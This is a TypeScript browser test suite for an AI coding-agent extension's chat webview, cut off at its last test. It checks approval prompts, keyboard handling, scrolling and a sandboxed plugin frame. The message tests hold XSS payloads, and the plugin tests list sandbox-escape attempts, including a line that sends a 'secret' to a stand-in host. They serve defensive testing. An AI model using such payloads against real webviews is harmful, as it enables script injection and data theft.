import assert from 'node:assert/strict'
import { statSync } from 'node:fs'
import { join } from 'node:path'
import { after, afterEach, beforeEach, describe, test } from 'node:test'
import type { ViewChange, ViewMessage } from '../../extension/protocol/messages.ts'
import type { PluginPart } from '../../extension/protocol/plugin-frame.ts'
import type { Row, ViewState } from '../../extension/protocol/view-state.ts'
import { root } from '../../scripts/root.ts'
import { baseState, prompt, text, tool, turnEnd } from '../webview/harness/fixtures.ts'
import { openHarness, startBrowser, type HarnessPage } from '../webview/harness/harness-page.ts'
import { untilEqual } from '../support/workbench.ts'

/* The chat's own bundle in a real browser, with a host that the test plays. */
const browser = await startBrowser()
after(() => browser.close())

let chat: HarnessPage
beforeEach(async () => {
  chat = await openHarness(browser, { theme: 'dark-modern', width: 400, height: 700 })
})
afterEach(() => chat.close())

let frame = 1
const show = async (rows: readonly Row[], more: Partial<ViewState> = {}, firstIndex = 0) => {
  frame = 1
  await chat.snapshot({ ...baseState, transcript: { rows, firstIndex, total: firstIndex + rows.length }, ...more })
  await chat.page.locator('.composer').waitFor()
}
const patch = (...changes: readonly ViewChange[]) => chat.post({ type: 'patch', frame: (frame += 1), changes })
const postedOf = async <Type extends ViewMessage['type']>(type: Type) => (await chat.posted()).filter((message): message is Extract<ViewMessage, { type: Type }> => message.type === type)
const running = { session: { ...baseState.session!, status: 'running' as const } }
const message = () => chat.page.getByRole('textbox', { name: 'Message' })
const settled = () => chat.drawn()
const labelInFocus = () => chat.page.evaluate(() => document.activeElement?.getAttribute('aria-label'))

describe('in little room', () => {
  const lines = (count: number) => Array.from({ length: count }, (_, line) => `line ${line + 1} of a file that is to be written`).join('\n')
  const approval = {
    id: 'a1',
    callId: null,
    tool: 'write',
    effect: 'Write `tour.md`',
    why: 'No rule of yours allows changing this file.',
    card: { card: 'diff' as const, title: 'tour.md', diffs: [{ path: 'tour.md', oldText: null, newText: lines(30) }] },
    always: ['Always'],
    who: null,
    editable: lines(6),
  }
  const notice = (id: string) => ({ id, level: 'warning' as const, text: 'The provider "loopback" in bosun.providers does not count: models.scripted has no field "window". Correct it or take it out; the others work.', actions: [{ id: 'open', label: 'Open the settings' }] })
  const crowded = { ...running, approvals: [approval], notices: [notice('n1'), notice('n2'), notice('n3')], tasks: [{ id: 't1', content: 'x', status: 'pending' as const }], composer: { ...baseState.composer, canSend: false, blockedBy: 'This model reads text only. Choose a model that reads images, or send the message without them.' } }
  const rect = async (selector: string) => (await chat.page.locator(selector).boundingBox())!

  for (const height of [700, 480]) {
    test(`what asks keeps its buttons, over the composer and over nothing else, ${height} px high`, async () => {
      await chat.page.setViewportSize({ width: 300, height })
      await show([prompt('a')], crowded)
      const [dock, buttons, composer, quiet] = await Promise.all([rect('.approvals'), rect('.approvals .buttons'), rect('.composer'), rect('.bottom-quiet')])
      assert.ok(buttons.y + buttons.height <= dock.y + dock.height, `the buttons end at ${buttons.y + buttons.height}, the dock at ${dock.y + dock.height}`)
      assert.ok(dock.y + dock.height <= composer.y && quiet.y + quiet.height <= dock.y)
      assert.ok(composer.y + composer.height <= height)
      await chat.page.getByRole('button', { name: 'Always allow…' }).click()
      await chat.page.getByRole('menuitem', { name: 'Always' }).click()
      assert.deepEqual(await postedOf('approval'), [{ type: 'approval', id: 'a1', answer: 'allow', always: 0 }])
    })
  }

  test('what is to be run has the room that it takes, not more', async () => {
    await show([prompt('a')], { ...running, approvals: [{ id: 'a1', callId: null, tool: 'bash', effect: 'Run `ls`', why: '', card: { card: 'terminal', title: 'ls' }, always: [], who: null }] })
    const [means, command] = await Promise.all([rect('.means'), rect('.means-command')])
    assert.ok(means.height - command.height < 2, `${means.height} px for ${command.height}`)
  })

  test('a text to change before it is allowed shows its lines', async () => {
    await show([prompt('a')], { ...running, approvals: [approval] })
    await chat.page.getByRole('button', { name: 'Edit…' }).click()
    const box = chat.page.getByRole('textbox', { name: 'What will be run or written' })
    assert.ok(await box.evaluate((element) => element.scrollHeight - element.clientHeight < 4 && element.clientHeight > 80))
  })
})

describe('the doors', () => {
  test('have their roles and names', async () => {
    await show([prompt('a'), text('b'), tool('bash', { card: 'terminal', title: 'ls' }, { card: 'terminal', exitCode: 0 })], {
      ...running,
      tasks: [{ id: 't2', content: 'x', status: 'pending' }],
      approvals: [{ id: 'a1', callId: null, tool: 'bash', effect: 'Run ls', why: '', card: null, always: ['ls'], who: null }],
    })
    const log = chat.page.getByRole('log', { name: 'Conversation' })
    await untilEqual(() => log.getByRole('article').count(), 3)
    assert.equal(await log.locator('[data-card=terminal][data-tool=bash]').count(), 1)
    for (const name of ['Send', 'Stop', 'Allow once', 'Always allow…', 'Deny']) assert.equal(await chat.page.getByRole('button', { name, exact: true }).count(), 1, name)
    for (const name of ['Tasks', 'Approvals']) assert.equal(await chat.page.getByRole('region', { name }).count(), 1, name)
    await message().waitFor()
    assert.deepEqual(await postedOf('ready'), [{ type: 'ready', version: 1 }])
  })

  test('are the only ones that carry a name, however loosely it is looked for', async () => {
    await show([prompt('a'), text('b'), prompt('c')], {
      ...running,
      queue: [{ id: 'q', text: 'later', target: 'next-turn' }],
      approvals: [{ id: 'a1', callId: null, tool: 'bash', effect: 'Run `ls`', why: '', card: null, always: ['ls'], who: null }],
    })
    for (const name of ['Send', 'Stop', 'Allow once', 'Always allow…', 'Deny']) assert.equal(await chat.page.getByRole('button', { name }).count(), 1, name)
    assert.equal(await message().count(), 1)
  })

  test('never put the focus on a yes', async () => {
    await show([prompt('a')])
    await message().focus()
    await patch({ change: 'state', key: 'approvals', value: [{ id: 'a1', callId: null, tool: 'bash', effect: 'Run ls', why: '', card: null, always: [], who: null }] })
    await chat.page.getByRole('button', { name: 'Allow once' }).waitFor()
    await settled()
    assert.equal(await labelInFocus(), 'Message')
  })
})

describe('the keyboard', () => {
  test('sends with Enter, breaks with Shift+Enter, steers with Ctrl+Enter', async () => {
    await show([prompt('a')], running)
    await message().pressSequentially('one')
    await message().press('Shift+Enter')
    await message().pressSequentially('two')
    await message().press('Enter')
    await message().pressSequentially('now')
    await message().press('Control+Enter')
    assert.deepEqual(
      (await postedOf('send')).map(({ text, target }) => [text, target]),
      [
        ['one\ntwo', 'next-turn'],
        ['now', 'next-step'],
      ],
    )
    await untilEqual(() => message().inputValue(), '')
  })

  test('leaves Enter to the input method while it composes', async () => {
    await show([prompt('a')])
    await message().fill('にほん')
    await message().evaluate((box) => box.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true })))
    assert.deepEqual(await postedOf('send'), [])
  })

  test('stops with Escape pressed twice, not once', async () => {
    await show([prompt('a')], running)
    await message().press('Escape')
    await chat.page.getByText('Press Escape again to stop').waitFor()
    assert.deepEqual(await postedOf('stop'), [])
    const presses = async () => {
      // A machine that is busy for longer than the first press counts needs another pair.
      await message().press('Escape')
      return (await postedOf('stop')).length
    }
    await untilEqual(presses, 1)
  })

  test('closes a menu first and gives the focus back', async () => {
    await show([prompt('a')], running)
    const more = chat.page.getByRole('button', { name: 'More' })
    await more.focus()
    await chat.page.keyboard.press('Enter')
    await chat.page.getByRole('menuitem', { name: 'Settings' }).waitFor()
    await chat.page.keyboard.press('ArrowDown')
    await chat.page.keyboard.press('Escape')
    await chat.page.getByRole('menu').waitFor({ state: 'detached' })
    await untilEqual(labelInFocus, 'More')
    assert.equal(await chat.page.getByText('Press Escape again to stop').count(), 0)
  })

  test('edits what is queued with Up', async () => {
    await show([prompt('a')], { ...running, queue: [{ id: 'q1', text: 'then this', target: 'next-turn' }] })
    await message().press('ArrowUp')
    await untilEqual(() => message().inputValue(), 'then this')
    await message().press('End')
    await message().pressSequentially(', please')
    await message().press('Enter')
    assert.deepEqual(await postedOf('queue-edit'), [{ type: 'queue-edit', id: 'q1', text: 'then this, please' }])
  })

  test('opens a line and its card', async () => {
    await show([prompt('a'), tool('bash', { card: 'terminal', title: 'ls' }, { card: 'terminal', exitCode: 0, output: 'file.txt' })])
    const line = chat.page.getByRole('button', { name: /^Ran ls/ })
    await line.focus()
    await chat.page.keyboard.press('Enter')
    await chat.page.getByText('file.txt').waitFor()
    assert.equal(await line.getAttribute('aria-expanded'), 'true')
  })
})

describe('questions', () => {
  const questions = [
    {
      id: 'qs',
      callId: null,
      questions: [
        { id: 'zone', header: null, question: 'Which zone?', isMultiSelect: false, options: [{ label: 'UTC (Recommended)', description: null }, { label: 'Local', description: null }] },
        { id: 'more', header: null, question: 'What more?', isMultiSelect: true, options: [{ label: 'Leaps', description: null }, { label: 'Weeks', description: null }] },
      ],
    },
  ]

  test('move on by themselves after a single choice, and send labels as they came', async () => {
    await show([prompt('a')], { questions })
    await chat.page.getByText('UTC').click()
    await chat.page.getByText('Weeks').click()
    await chat.page.getByText('Leaps').click()
    await chat.page.getByRole('textbox', { name: 'Or in your own words' }).fill('and zones')
    await chat.page.keyboard.press('Enter')
    assert.deepEqual(await postedOf('question'), [
      { type: 'question', id: 'qs', answers: [{ id: 'zone', selected: ['UTC (Recommended)'] }, { id: 'more', selected: ['Leaps', 'Weeks'], custom: 'and zones' }] },
    ])
  })

  test('are not sent by Enter while one is open', async () => {
    await show([prompt('a')], { questions })
    await chat.page.getByRole('textbox', { name: 'Or in your own words' }).fill('mine')
    await chat.page.keyboard.press('Enter')
    await chat.page.getByText('Leaps').waitFor()
    assert.deepEqual(await postedOf('question'), [])
  })

  test('can be skipped and closed', async () => {
    await show([prompt('a')], { questions })
    await chat.page.getByRole('button', { name: 'Skip the rest' }).click()
    await chat.page.getByRole('button', { name: 'Close the questions without an answer' }).click()
    assert.deepEqual(await postedOf('question'), [
      { type: 'question', id: 'qs', answers: [{ id: 'zone', selected: [] }, { id: 'more', selected: [] }] },
      { type: 'question', id: 'qs', answers: null },
    ])
  })
})

test('approvals are answered once, always, or denied with a reason', async () => {
  const approval = (id: string) => ({ id, callId: null, tool: 'bash', effect: `Run ${id}`, why: '', card: null, always: ['ls …', 'everything'], who: null })
  await show([prompt('a')], { approvals: [approval('a1')] })
  await chat.page.getByRole('button', { name: 'Allow once' }).click()
  await chat.page.getByRole('button', { name: 'Always allow…' }).click()
  await chat.page.getByRole('menuitem', { name: 'everything' }).click()
  await chat.page.getByRole('button', { name: 'Say why not' }).click()
  await untilEqual(() => chat.page.evaluate(() => document.activeElement?.matches('.approvals :is(input, textarea)')), true)
  await chat.page.keyboard.type('not on a Friday')
  await chat.page.keyboard.press('Enter')
  assert.deepEqual(await postedOf('approval'), [
    { type: 'approval', id: 'a1', answer: 'allow' },
    { type: 'approval', id: 'a1', answer: 'allow', always: 1 },
    { type: 'approval', id: 'a1', answer: 'deny', note: 'not on a Friday' },
  ])
})

describe('a message', () => {
  const hostile = [
    '<script>window.broken = 1</script><img src=x onerror="window.broken = 1">',
    '[run](javascript:window.broken=1) ![pixel](https://example.org/pixel.png) <iframe src="https://example.org"></iframe>',
    '[data](data:text/html,<script>window.broken=1</script>) [command](command:workbench.action.quit)',
  ].join('\n\n')

  test('cannot run, load or navigate anything', async () => {
    const requests: string[] = []
    chat.page.on('request', (request) => requests.push(request.url()))
    await show([prompt('a'), text(hostile)])
    await settled()
    for (const link of await chat.page.locator('.markdown a').all()) await link.click()
    assert.deepEqual(
      await chat.page.evaluate(() => ({
        broken: 'broken' in window,
        tags: [...document.querySelectorAll('.markdown :is(script, iframe, img, style, form, [href], [src], [onerror])')].length,
        address: location.href,
      })),
      { broken: false, tags: 0, address: 'http://harness.test/' },
    )
    assert.deepEqual(requests.filter((url) => !url.startsWith('http://harness.test/')), [])
    // The picture became a link, which the host asks about.
    assert.deepEqual(await postedOf('open-link'), [{ type: 'open-link', url: 'https://example.org/pixel.png' }])
  })

  test('has the marks of a list where its words begin, from whichever side they are read', async () => {
    await show([prompt('a'), text('- פריט ראשון\n- second\n\nend'), text('1. one\n\n   > פסוק\n2. two')])
    const paddings = () => chat.page.locator('.markdown :is(ul, ol)').evaluateAll((lists) => lists.map((list) => [getComputedStyle(list).paddingLeft, getComputedStyle(list).paddingRight]))
    await untilEqual(paddings, [['0px', '22px'], ['22px', '0px']])
  })

  test('leads to files and pages by click and by key', async () => {
    await show([prompt('a'), text('See [the code](src/a.ts#L3), `src/b.ts:9` and [a page](https://example.org/x).')])
    await chat.page.getByRole('link', { name: 'the code' }).click()
    await chat.page.getByRole('link', { name: 'src/b.ts:9' }).focus()
    await chat.page.keyboard.press('Enter')
    await chat.page.getByRole('link', { name: 'a page' }).click()
    assert.deepEqual(
      (await chat.posted()).filter(({ type }) => type.startsWith('open-')),
      [
        { type: 'open-location', location: { path: 'src/a.ts', line: 3 } },
        { type: 'open-location', location: { path: 'src/b.ts', line: 9 } },
        { type: 'open-link', url: 'https://example.org/x' },
      ],
    )
  })

  test('keeps a selection while it streams', async () => {
    const row = text('The first words of it', { isStreaming: true })
    await show([prompt('a'), row], running)
    await chat.page.evaluate(() => {
      const words = document.querySelector('.markdown p')?.firstChild
      if (words) getSelection()?.setBaseAndExtent(words, 4, words, 15)
    })
    await patch({ change: 'append', rowId: row.id, field: 'text', text: ' and more of them\n\nAnother' })
    await chat.page.getByText('The first words of it and more of them', { exact: true }).waitFor()
    await patch({ change: 'append', rowId: row.id, field: 'text', text: ' paragraph' })
    await chat.page.getByText('Another paragraph', { exact: true }).waitFor()
    assert.equal(await chat.page.evaluate(() => getSelection()?.toString()), 'first words')
    assert.match((await chat.page.locator('.markdown').textContent()) ?? '', /more of them.*Another paragraph/s)
  })

  test('does not move when a code block closes', async () => {
    const row = text('Code:\n\n```ts\nconst a = 1\n', { isStreaming: true })
    await show([prompt('a'), row], running)
    const height = () => chat.page.locator('.code-block').evaluate((block) => block.getBoundingClientRect().height)
    const before = await height()
    await patch({ change: 'append', rowId: row.id, field: 'text', text: '```\n' })
    await chat.page.locator('.hljs-keyword').waitFor()
    assert.equal(await height(), before)
  })
})

test('a row that is found where all of the talk is in view offers no way to its end', async () => {
  const found = text('b')
  await show([prompt('a'), found])
  await chat.post({ type: 'reveal-row', sessionId: baseState.session!.id, rowId: found.id })
  await chat.page.locator('.row-found').waitFor()
  await settled()
  assert.equal(await chat.page.locator('.jump').count(), 0)
})

test('the name of an agent is the last part of its line to be cut', async () => {
  await chat.page.setViewportSize({ width: 230, height: 700 })
  const row = tool('bash', { card: 'generic', title: 'Created the teammate cleo', kind: 'other' }, { card: 'generic' })
  const agent = { id: 'a1', callId: row.callId, label: 'cleo', state: 'idle' as const, isAsking: false, lastLine: 'Running npm test', cost: '10.4k tokens', startedAt: 0, endedAt: 3_000, canOpen: true, canInterrupt: true, children: [] }
  await show([prompt('a'), row], { agents: [agent] })
  assert.deepEqual(
    await chat.page.locator('.agent-open').evaluate((line) => ({
      isNameWhole: line.querySelector('.agent-name')!.scrollWidth === line.querySelector('.agent-name')!.clientWidth,
      isInside: [...line.children].every((part) => part.getBoundingClientRect().right <= line.getBoundingClientRect().right),
    })),
    { isNameWhole: true, isInside: true },
  )
})

describe('a long talk', () => {
  const many = (from: number, count: number) => Array.from({ length: count }, (_, index): Row => ({ ...text(`Row ${from + index} ${'word '.repeat((from + index) % 40)}`), id: `long-${from + index}`, turn: 1 }))
  const scroll = (top: number) => chat.page.locator('.log').evaluate((log, top) => void (log.scrollTop = top), top)
  const isAtEnd = () => chat.page.locator('.log').evaluate((log) => log.scrollHeight - log.clientHeight - log.scrollTop < 2)
  /** Where a row is on screen. */
  const topOf = (words: string) => chat.page.locator('.markdown p', { hasText: words }).first().evaluate((element) => Math.round(element.getBoundingClientRect().top))

  test('follows its end, lets go when the person scrolls up, and comes back with a count', async () => {
    await show(many(0, 60), running)
    await untilEqual(isAtEnd, true)
    await chat.page.locator('.log').hover()
    await chat.page.mouse.wheel(0, -400)
    const jump = chat.page.getByRole('button', { name: /Jump to latest/ })
    await jump.waitFor()
    await patch(...many(60, 3).map((row): ViewChange => ({ change: 'row', row })))
    await untilEqual(async () => (await jump.textContent())?.endsWith('3'), true)
    assert.equal(await isAtEnd(), false)
    await jump.click()
    await jump.waitFor({ state: 'detached' })
    await untilEqual(isAtEnd, true)
  })

  test('stays at its end when a dock shrinks and grows in one step', async () => {
    await chat.page.setViewportSize({ width: 300, height: 760 })
    const card = { card: 'terminal' as const, title: 'git push origin fix-date-test', cwd: 'web' }
    await show(many(0, 60), { ...running, approvals: [{ id: 'a1', callId: null, tool: 'bash', effect: 'Run `git push` to origin', why: 'No rule allows commands that reach the network.', card, always: ['a', 'b'], who: null, editable: 'git push origin fix-date-test' }] })
    await untilEqual(isAtEnd, true)
    await chat.page.getByRole('button', { name: 'Edit…' }).click()
    await chat.page.getByRole('textbox', { name: 'What will be run or written' }).waitFor()
    await settled()
    assert.equal(await isAtEnd(), true)
    assert.equal(await chat.page.getByRole('button', { name: /Jump to latest/ }).count(), 0)
  })

  test('keeps its place when older rows come in', async () => {
    await show(many(100, 60), {}, 100)
    await settled()
    await scroll(0)
    await untilEqual(() => postedOf('load-older'), [{ type: 'load-older', before: 100, count: 200 }])
    await settled()
    const before = await topOf('Row 102 ')
    await chat.post({ type: 'older-rows', frame: (frame += 1), window: { rows: many(0, 100), firstIndex: 0, total: 160 } })
    await chat.page.locator('.older').waitFor({ state: 'detached' })
    await untilEqual(async () => Math.abs((await topOf('Row 102 ')) - before) <= 30, true)
  })

  test('keeps its place when something above it opens', async () => {
    await show(many(0, 80))
    await settled()
    await scroll(1_500)
    await settled()
    const words = await chat.page.evaluate(() => {
      const box = document.querySelector('.log')!.getBoundingClientRect()
      const first = [...document.querySelectorAll('.markdown p')].find((element) => element.getBoundingClientRect().top > box.top + 100)
      return first!.textContent.split(' ').slice(0, 2).join(' ') + ' '
    })
    const before = await topOf(words)
    const row = Number(words.split(' ')[1]) - 6
    await patch({ change: 'row', row: { ...text(`Row ${row} ${'grown '.repeat(200)}`), id: `long-${row}`, turn: 1 } })
    await chat.page.getByText('grown').first().waitFor({ state: 'attached' })
    await untilEqual(async () => Math.abs((await topOf(words)) - before) <= 1, true)
  })

  test('stands where it was after a reload of the page', async () => {
    await show(many(0, 80))
    await settled()
    await scroll(900)
    await untilEqual(() => chat.page.evaluate(() => (window.harness.state as { readonly scroll?: readonly unknown[] } | undefined)?.scroll?.length), 1)
    const saved = await chat.page.evaluate(() => window.harness.state)
    const firstInView = () =>
      chat.page.evaluate(() => {
        const box = document.querySelector('.log')!.getBoundingClientRect()
        return [...document.querySelectorAll('.markdown p')].find((element) => element.getBoundingClientRect().bottom > box.top)!.textContent.slice(0, 8)
      })
    const [first, was] = [await chat.page.locator('.log').evaluate((log) => log.scrollTop), await firstInView()]
    await chat.reload(saved)
    await show(many(0, 80))
    await untilEqual(firstInView, was)
    assert.ok(first > 0 && Number(/\d+/.exec(was)![0]) > 3, was)
  })
})

describe('a row that is searched for', () => {
  const words = (from: number, count: number) => Array.from({ length: count }, (_, index): Row => ({ ...text(`Row ${from + index} ${'word '.repeat((from + index) % 40)}`), id: `e${from + index}`, turn: 1 }))
  const talk = (id: string) => ({ session: { ...baseState.session!, id } })
  const reveal = (rowId: string) => chat.post({ type: 'reveal-row', sessionId: 'found', rowId })
  const snapshot = (rows: readonly Row[], firstIndex = 0) => chat.snapshot({ ...baseState, ...talk('found'), transcript: { rows, firstIndex, total: firstIndex + rows.length } })
  const isInView = () =>
    chat.page.evaluate(() => {
      const [log, row] = [document.querySelector('.log')!.getBoundingClientRect(), document.querySelector('.row-found')?.getBoundingClientRect()]
      return row !== undefined && row.height > 0 && row.top >= log.top - 1 && row.top < log.bottom
    })
  const isShown = async (start: string) => {
    await untilEqual(isInView, true)
    // It stays there once the rows around it have got their heights.
    await settled()
    assert.deepEqual([await isInView(), (await chat.page.locator('.row-found').innerText()).slice(0, start.length)], [true, start])
  }

  for (const rowId of ['e20', 'e95'])
    test(`is shown where it is asked for before its session comes, though the one that is left has rows of the same names too: ${rowId}`, async () => {
      await show(words(0, 60), talk('left'))
      await reveal(rowId)
      await settled()
      assert.equal(await chat.page.locator('.row-found').count(), 0)
      await snapshot(words(0, 120))
      await isShown(`Row ${rowId.slice(1)} `)
    })

  test('is shown where it is asked for with its session, and after it', async () => {
    await show(words(0, 60), talk('left'))
    await snapshot(words(0, 120))
    await reveal('e20')
    await isShown('Row 20 ')
    await reveal('e118')
    await isShown('Row 118 ')
  })

  test('is shown out of an older page, between two of them', async () => {
    await show(words(0, 60), talk('left'))
    await snapshot(words(400, 100), 400)
    await reveal('e20')
    await untilEqual(() => postedOf('load-older'), [{ type: 'load-older', before: 400, count: 200 }])
    await chat.post({ type: 'older-rows', frame: 3, window: { rows: words(200, 200), firstIndex: 200, total: 500 } })
    await untilEqual(async () => (await postedOf('load-older')).at(-1)?.before, 200)
    await chat.post({ type: 'older-rows', frame: 4, window: { rows: words(0, 200), firstIndex: 0, total: 500 } })
    await isShown('Row 20 ')
  })

  test('is shown in a line of explorations that is longer than the view', async () => {
    const reads = Array.from({ length: 60 }, (_, index) => tool('read', { card: 'generic', title: `Read file-${index}.ts`, kind: 'read', subject: `file-${index}.ts` }, { card: 'read', path: `file-${index}.ts`, offset: 1, totalLines: 0, lines: [] }, { id: `read${index}` }))
    await show(words(0, 60), talk('left'))
    await reveal('read50')
    await snapshot([...words(0, 30), ...reads, ...words(30, 60)])
    await isShown('Read \nfile-50.ts')
  })
})

test('a row that cannot be drawn says so, and the rest of the talk stands', async () => {
  // A card that no version of the protocol has, as a broken host could send.
  const broken = { ...tool('x', null, null), result: { card: 'hologram' }, state: 'ok' } as unknown as Row
  await show([prompt('before'), broken, text('after')])
  await chat.page.getByText('This part could not be drawn').waitFor()
  await chat.page.getByText('after').waitFor()
  await chat.page.getByRole('button', { name: 'Reload view' }).click()
  assert.equal((await postedOf('reload-view')).length, 1)
  assert.equal((await postedOf('view-error')).length, 1)
})

describe('the frame of a plugin', () => {
  const view = { id: 's1/run-1', pluginId: 'note-1', name: 'Note', slots: ['panel'], problem: null } as const
  const inside = () => chat.page.locator('.plugin-body iframe').contentFrame()
  const part = (content: PluginPart) => chat.post({ type: 'plugin', frameId: view.id, part: content })
  const draw = async (code: string) => {
    await show([prompt('a')], { plugins: [view] })
    await chat.page.waitForFunction(() => window.harness.posted.some((message) => (message as ViewMessage).type === 'plugin-code'))
    await part({ kind: 'code', code })
    await chat.page.waitForFunction(() => window.harness.posted.some((message) => (message as ViewMessage).type === 'plugin-frame'))
    // Drawn is not shown yet: the page gives it its room after that.
    await chat.page.locator('.plugin-frame:not(.is-empty)').waitFor()
  }

  test('is as high as what it draws, within its cap, and takes the colours of the theme as they change', async () => {
    await draw(`let lines = 2; slot('panel', () => [ui.h('p', { id: 'first' }, 'Here'), ...Array.from({ length: lines }, () => ui.h('p', null, 'line')), ui.h('button', { onclick: () => { lines = 40 } }, 'More')])`)
    const height = async () => (await chat.page.locator('.plugin-body iframe').boundingBox())!.height
    const colour = () => inside().locator('#first').evaluate((element) => getComputedStyle(element).color)
    await inside().getByRole('button', { name: 'More' }).waitFor()
    const drawnHeight = await inside().locator('#slot').evaluate((slot) => Math.ceil(slot.getBoundingClientRect().height))
    assert.ok(drawnHeight > 60 && drawnHeight < 140, `${drawnHeight} px`)
    await untilEqual(height, drawnHeight)
    assert.notEqual(await colour(), 'rgb(1, 2, 3)')
    await inside().getByRole('button', { name: 'More' }).click()
    await untilEqual(height, 280)
    await chat.page.evaluate(() => document.documentElement.style.setProperty('--vscode-foreground', 'rgb(1, 2, 3)'))
    await untilEqual(colour, 'rgb(1, 2, 3)')
  })

  test('asks the host half and draws its answer, with what was typed kept', async () => {
    await draw(`let text = '', answer = ''; slot('panel', () => [ui.h('input', { 'aria-label': 'Text', value: text, oninput: (event) => { text = event.target.value } }), ui.h('button', { onclick: async () => { answer = await host.call('count', { text }) } }, 'Count'), ui.h('p', null, answer)])`)
    await inside().getByRole('textbox', { name: 'Text' }).pressSequentially('a b')
    await inside().getByRole('button', { name: 'Count' }).click()
    await untilEqual(() => postedOf('plugin-call'), [{ type: 'plugin-call', frameId: view.id, id: 1, method: 'count', payload: { text: 'a b' } }])
    await part({ kind: 'reply', id: 1, value: '2 words' })
    await inside().getByText('2 words').waitFor()
    assert.equal(await inside().getByRole('textbox', { name: 'Text' }).inputValue(), 'a b')
  })

  test('reaches no network, no page around it and no store, whatever it tries', async () => {
    const requested: string[] = []
    await chat.page.route('**/*', (route) => {
      requested.push(route.request().url())
      return route.fallback()
    })
    const escapes = {
      nonce: `if (document.scripts.length === 0) throw new Error('no')`,
      fetch: `await fetch('https://outside.test/')`,
      socket: `await new Promise((resolve, reject) => { const socket = new WebSocket('wss://outside.test/'); socket.onopen = resolve; socket.onerror = () => reject(new Error('no')) })`,
      image: `await new Promise((resolve, reject) => { const image = new Image(); image.onload = resolve; image.onerror = () => reject(new Error('no')); image.src = 'https://outside.test/a.png' })`,
      script: `await new Promise((resolve, reject) => { const script = document.createElement('script'); script.nonce = 'harness'; script.onload = resolve; script.onerror = () => reject(new Error('no')); script.src = 'https://outside.test/a.js'; document.head.append(script) })`,
      'script of the page': `await new Promise((resolve, reject) => { const script = document.createElement('script'); script.onload = resolve; script.onerror = () => reject(new Error('no')); script.src = 'http://harness.test/webview.js'; document.head.append(script) })`,
      'inline script': `const script = document.createElement('script'); script.textContent = 'window.ran = 1'; document.head.append(script); if (window.ran !== 1) throw new Error('no')`,
      eval: `eval('1')`,
      'function from text': `Function('return 1')()`,
      worker: `await new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = resolve; worker.onerror = () => reject(new Error('no')) })`,
      'module by import': `await import('https://outside.test/a.js')`,
      'the page': `parent.document.title`,
      'its functions': `parent.acquireVsCodeApi()`,
      store: `localStorage.setItem('a', 'b')`,
      cookie: `document.cookie = 'a=b'; if (document.cookie === '') throw new Error('no')`,
      popup: `if (open('https://outside.test/') === null) throw new Error('no')`,
      peer: `new RTCPeerConnection()`,
      'a frame with scripts': `await new Promise((resolve, reject) => { onmessage = resolve; const frame = document.createElement('iframe'); frame.srcdoc = '<script>parent.postMessage(1, "*")<' + '/script>'; document.body.append(frame); frame.onload = () => setTimeout(() => reject(new Error('no')), 50) })`,
      form: `const form = document.createElement('form'); form.action = 'https://outside.test/'; document.body.append(form); form.submit(); throw new Error('no')`,
      'the top': `top.location.href = 'https://outside.test/'`,
    }
    const tries = Object.entries(escapes).map(([name, code]) => `out.push(await (async () => { ${code} })().then(() => ${JSON.stringify(name)}, () => null))`)
    await draw(`const out = []; let ended = false; slot('panel', () => (ended ? 'got out: ' + JSON.stringify(out.filter((name) => name !== null)) : 'trying')); (async () => { ${tries.join(';')} ; ended = true; ui.redraw() })()`)
    await inside().getByText('got out: []').waitFor()
    // Its own parts come as they are needed.
    assert.deepEqual(requested.filter((url) => !/\/(webview-|codicon)/.test(url)), [])
    assert.equal(chat.page.url(), 'http://harness.test/')
    await message().waitFor()
  })

  test('does not get away from its place, where it could take words along', async () => {
    await draw(`slot('panel', () => ui.h('button', { onclick: () => { location.href = 'https://outside.test/?' + 'secret' } }, 'Away'))`)
    const requested: string[] = []
    await chat.page.route('**/*', (route) => {
      requested.push(route.request().url())
      return route.fallback()
    })
    const refused = chat.page.evaluate(() => new Promise((resolve) => document.addEventListener('securitypolicyviolation', ({ blockedURI }) => resolve(blockedURI))))
    await inside().getByRole('button', { name: 'Away' }).click()
    assert.match(String(await refused), /^https:\/\/outside\.test/)
    assert.deepEqual(requested, [])
  })

  test('is not heard as the host', async () => {
    await draw(`slot('panel', () => ui.h('button', { onclick: () => { parent.postMessage({ type: 'patch', frame: 2, changes: [{ change: 'state', key: 'tasks', value: [{ id: 'x', content: 'forged', status: 'pending' }] }] }, '*'); parent.postMessage({ type: 'snapshot', version: 99 }, '*'); host.call('forged') } }, 'Forge'))`)
    await inside().getByRole('button', { name: 'Forge' }).click()
    // What is sent after them has been heard.
    await untilEqual(async () => (await postedOf('plugin-call')).length, 1)
    await settled()
    assert.equal(await chat.page.getByRole('region', { name: 'Tasks' }).count(), 0)
    await message().waitFor()
  })

  test('is passed through by the Tab key and left by Escape', async () => {
    await draw(`slot('panel', () => ui.h('button', null, 'Inside'))`)
    const focused = () => chat.page.evaluate(() => document.activeElement?.tagName === 'IFRAME' ? 'frame' : (document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.textContent))
    /** The frame may run in another process than the page: where the focus goes is known to both only later. */
    const isInside = async () => {
      await untilEqual(focused, 'frame')
      await untilEqual(() => inside().getByRole('button', { name: 'Inside' }).evaluate((button) => document.hasFocus() && document.activeElement === button), true)
    }
    await chat.page.getByRole('button', { name: 'Stop the plugin Note' }).focus()
    await chat.page.keyboard.press('Tab')
    await isInside()
    await chat.page.keyboard.press('Tab')
    await untilEqual(focused, 'Message')
    await chat.page.keyboard.press('Shift+Tab')
    await isInside()
    await chat.page.keyboard.press('Escape')
    await untilEqual(focused, 'Note')
    assert.equal(await chat.page.locator('.plugin-body iframe').getAttribute('title'), 'Plugin Note')
  })

  test('folds without an end of it, and can be stopped', async () => {
    await draw(`let n = 0; slot('panel', () => n); host.on('tick', () => { n += 1 })`)
    await chat.page.getByRole('button', { name: 'Note', exact: true }).click()
    await chat.page.locator('.plugin-body').waitFor({ state: 'hidden' })
    await part({ kind: 'event', name: 'tick', payload: null })
    await chat.page.getByRole('button', { name: 'Note', exact: true }).click()
    await inside().getByText('1').waitFor()
    await chat.page.getByRole('button', { name: 'Stop the plugin Note' }).click()
    assert.deepEqual(await postedOf('plugin-stop'), [{ type: 'plugin-stop', pluginId: 'note-1' }])
    await patch({ change: 'state', key: 'plugins', value: [] })
    await chat.page.locator('iframe').waitFor({ state: 'detached' })
  })

  test('says why it could not be drawn, and the chat stands', async () => {
